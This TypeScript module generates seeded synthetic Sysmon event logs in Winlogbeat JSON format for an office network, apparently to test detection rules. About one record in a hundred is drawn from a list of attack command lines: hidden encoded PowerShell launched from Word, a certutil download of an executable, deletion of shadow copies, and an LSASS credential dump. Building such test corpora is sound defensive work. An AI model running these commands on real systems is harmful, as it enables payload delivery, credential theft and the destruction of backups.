/**
 * Windows events as Sysmon and the security log of an office's machines write them, in Winlogbeat's JSON: what starts, connects, is written and set.
 * Seeded, so the same call gives the same bytes. One in a hundred does what some rule looks for.
 */

import { seeded } from './corpus.ts'

const programs: readonly (readonly [image: string, command: string, parent: string, weight: number])[] = [
  [
    'C:\\Windows\\System32\\svchost.exe',
    'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s $SERVICE',
    'C:\\Windows\\System32\\services.exe',
    12
  ],
  [
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --extension-process --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=$N --launch-time-ticks=$N$N --field-trial-handle=$N,i,$N,$N,262144 --mojo-platform-channel-handle=$N /prefetch:1',
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    14
  ],
  [
    'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
    '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=de --service-sandbox-type=none --field-trial-handle=$N,$N --mojo-platform-channel-handle=$N /prefetch:3',
    'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
    9
  ],
  [
    'C:\\Windows\\System32\\conhost.exe',
    '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
    'C:\\Windows\\System32\\cmd.exe',
    9
  ],
  [
    'C:\\Windows\\System32\\cmd.exe',
    'C:\\Windows\\system32\\cmd.exe /c "C:\\Program Files\\$VENDOR\\agent\\bin\\collect.cmd" --once --out C:\\ProgramData\\$VENDOR\\out$N.txt',
    'C:\\Windows\\System32\\svchost.exe',
    8
  ],
  [
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell.exe -NoProfile -NonInteractive -File "C:\\ProgramData\\$VENDOR\\Inventory\\Get-Inventory.ps1" -Site $N',
    'C:\\Program Files\\$VENDOR\\agent\\agent.exe',
    5
  ],
  [
    'C:\\Windows\\System32\\taskhostw.exe',
    'taskhostw.exe -RegisterDevice -SettingChange -Full',
    'C:\\Windows\\System32\\svchost.exe',
    4
  ],
  [
    'C:\\Windows\\System32\\RuntimeBroker.exe',
    'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding',
    'C:\\Windows\\System32\\svchost.exe',
    5
  ],
  [
    'C:\\Windows\\System32\\backgroundTaskHost.exe',
    '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppX$N.mca',
    'C:\\Windows\\System32\\svchost.exe',
    4
  ],
  [
    'C:\\Windows\\System32\\SearchProtocolHost.exe',
    '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe$N_ Global\\UsGthrCtrlFltPipeMssGthrPipe$N 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"',
    'C:\\Windows\\System32\\SearchIndexer.exe',
    4
  ],
  [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle',
    'C:\\Windows\\explorer.exe',
    2
  ],
  [
    'C:\\Program Files\\Git\\cmd\\git.exe',
    'git.exe -c core.quotepath=false -c log.showSignature=false fetch origin --recurse-submodules=no --progress --prune feature/$N',
    'C:\\Users\\$USER\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe',
    4
  ],
  [
    'C:\\Program Files\\nodejs\\node.exe',
    '"C:\\Program Files\\nodejs\\node.exe" "C:\\Users\\$USER\\src\\app$N\\node_modules\\.bin\\vite" build --mode production',
    'C:\\Windows\\System32\\cmd.exe',
    4
  ],
  [
    'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
    'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
    'C:\\Windows\\System32\\svchost.exe',
    3
  ],
  [
    'C:\\Windows\\System32\\rundll32.exe',
    'C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask',
    'C:\\Windows\\System32\\svchost.exe',
    2
  ],
  ['C:\\Windows\\System32\\ipconfig.exe', 'ipconfig /all', 'C:\\Windows\\System32\\cmd.exe', 1],
  [
    'C:\\Windows\\System32\\msiexec.exe',
    'C:\\Windows\\system32\\msiexec.exe /V',
    'C:\\Windows\\System32\\services.exe',
    1
  ],
  [
    'C:\\Users\\$USER\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe',
    '"C:\\Users\\$USER\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --type=gpu-process --enable-features=SharedArrayBuffer --gpu-preferences=$N$N --mojo-platform-channel-handle=$N',
    'C:\\Users\\$USER\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe',
    5
  ],
  [
    'C:\\Windows\\System32\\dllhost.exe',
    'C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-$N}',
    'C:\\Windows\\System32\\svchost.exe',
    3
  ],
  ['C:\\Windows\\System32\\net.exe', 'net use \\\\files\\$USER /persistent:no', 'C:\\Windows\\System32\\cmd.exe', 1]
]
const attacks: readonly (readonly [image: string, command: string, parent: string])[] = [
  [
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell -nop -w hidden -ep bypass -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'
  ],
  [
    'C:\\Windows\\System32\\certutil.exe',
    'certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe',
    'C:\\Windows\\System32\\cmd.exe'
  ],
  ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', 'C:\\Windows\\System32\\cmd.exe'],
  [
    'C:\\Windows\\System32\\rundll32.exe',
    'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full',
    'C:\\Windows\\System32\\cmd.exe'
  ],
  ['C:\\Windows\\System32\\whoami.exe', 'whoami /all', 'C:\\Windows\\System32\\cmd.exe']
]
const services = [
  'Schedule',
  'Winmgmt',
  'BITS',
  'wuauserv',
  'Appinfo',
  'ProfSvc',
  'Themes',
  'UserManager',
  'TokenBroker'
]
const vendors = ['Contoso', 'Fabrikam', 'Northwind']
const libraries = [
  'ntdll.dll',
  'kernel32.dll',
  'KernelBase.dll',
  'user32.dll',
  'combase.dll',
  'urlmon.dll',
  'wintrust.dll',
  'amsi.dll'
]
const keys = [
  'HKU\\S-1-5-21-$N\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\{CEBFF5CD}\\Count\\HRZR_PGYFRFFVBA',
  'HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\{$N}\\LeaseObtainedTime',
  'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{$N}\\DynamicInfo'
]
const paths = [
  'C:\\Users\\$USER\\AppData\\Local\\Temp\\tmp$N.tmp',
  'C:\\Users\\$USER\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_00$N',
  'C:\\ProgramData\\$VENDOR\\out$N.txt',
  'C:\\Windows\\Prefetch\\APP$N.EXE-3F2A.pf'
]

export type WindowsKind = 'process' | 'mixed'

/** Records without end: starts of processes only, or those with connections, loaded images, files, registry values and logons. */
export function* windowsLines(kind: WindowsKind, seed = 1): Generator<string> {
  const random = seeded(seed)
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!
  const users = Array.from({ length: 200 }, (_, i) => `user${i}`)
  const hosts = Array.from({ length: 300 }, (_, i) => `DESK-${String(i).padStart(3, '0')}.corp.example`)
  const weighted = programs.flatMap(program => Array.from({ length: program[3] }, () => program))
  const number = (): string => String(Math.floor(random() * 90_000) + 10_000)
  let at = Date.UTC(2026, 5, 1, 8)
  for (let record = 1; ; record++) {
    at += Math.floor(random() * 20)
    const user = pick(users)
    const vendor = pick(vendors)
    const service = pick(services)
    const fill = (text: string): string =>
      text
        .replaceAll('$USER', user)
        .replaceAll('$VENDOR', vendor)
        .replaceAll('$SERVICE', service)
        .replace(/\$N/g, number)
    const [image, command, parent] = (random() < 0.01 ? pick(attacks) : pick(weighted))
      .slice(0, 3)
      .map(text => fill(String(text))) as [string, string, string]
    const isSystem = parent.endsWith('services.exe') || (parent.endsWith('svchost.exe') && random() < 0.5)
    const account = isSystem ? 'NT AUTHORITY\\SYSTEM' : `CORP\\${user}`
    const time = new Date(at).toISOString().replace('T', ' ').slice(0, 23)
    const process = {
      UtcTime: time,
      ProcessGuid: `{${number()}-0000-0000-${number()}}`,
      ProcessId: number(),
      Image: image,
      User: account
    }
    const share = kind === 'process' ? 0 : random()
    let id = 1
    let data: Record<string, string>
    if (share < 0.5) {
      data = {
        ...process,
        RuleName: '-',
        FileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
        Description: 'Host Process',
        Product: 'Microsoft® Windows® Operating System',
        Company: 'Microsoft Corporation',
        OriginalFileName: image.slice(image.lastIndexOf('\\') + 1),
        CommandLine: command,
        CurrentDirectory: 'C:\\Windows\\system32\\',
        LogonGuid: `{${number()}}`,
        LogonId: isSystem ? '0x3e7' : `0x${number()}`,
        TerminalSessionId: '1',
        IntegrityLevel: isSystem ? 'System' : 'Medium',
        Hashes: `SHA256=${hex(random, 64)},IMPHASH=${hex(random, 32)}`,
        ParentProcessGuid: `{${number()}}`,
        ParentProcessId: number(),
        ParentImage: parent,
        ParentCommandLine: parent,
        ParentUser: account
      }
    } else if (share < 0.65) {
      id = 3
      data = {
        ...process,
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIsIpv6: 'false',
        SourceIp: `10.1.2.${record % 250}`,
        SourcePort: number(),
        DestinationIp: `93.184.216.${record % 250}`,
        DestinationHostname: 'cdn.example.net',
        DestinationPort: '443'
      }
    } else if (share < 0.8) {
      id = 7
      data = {
        ...process,
        ImageLoaded: `C:\\Windows\\System32\\${pick(libraries)}`,
        Signed: 'true',
        Signature: 'Microsoft Windows',
        SignatureStatus: 'Valid',
        Hashes: `SHA256=${hex(random, 64)}`
      }
    } else if (share < 0.88) {
      id = 11
      data = { ...process, TargetFilename: fill(pick(paths)), CreationUtcTime: time }
    } else if (share < 0.95) {
      id = 13
      data = { ...process, EventType: 'SetValue', TargetObject: fill(pick(keys)), Details: 'Binary Data' }
    } else {
      id = 22
      data = {
        ...process,
        QueryName: `a${number()}.example.net`,
        QueryStatus: '0',
        QueryResults: '::ffff:93.184.216.34;'
      }
    }
    yield JSON.stringify({
      '@timestamp': new Date(at).toISOString(),
      agent: { type: 'winlogbeat', version: '8.12.0' },
      event: { code: String(id), provider: 'Microsoft-Windows-Sysmon', kind: 'event' },
      host: { name: pick(hosts) },
      log: { level: 'information' },
      winlog: {
        api: 'wineventlog',
        channel: 'Microsoft-Windows-Sysmon/Operational',
        provider_name: 'Microsoft-Windows-Sysmon',
        provider_guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}',
        computer_name: pick(hosts),
        event_id: String(id),
        record_id: record,
        process: { pid: 2800, thread: { id: 4012 } },
        event_data: data
      }
    })
  }
}

function hex(random: () => number, length: number): string {
  let text = ''
  while (text.length < length)
    text += Math.floor(random() * 0x100000000)
      .toString(16)
      .padStart(8, '0')
  return text.slice(0, length).toUpperCase()
}
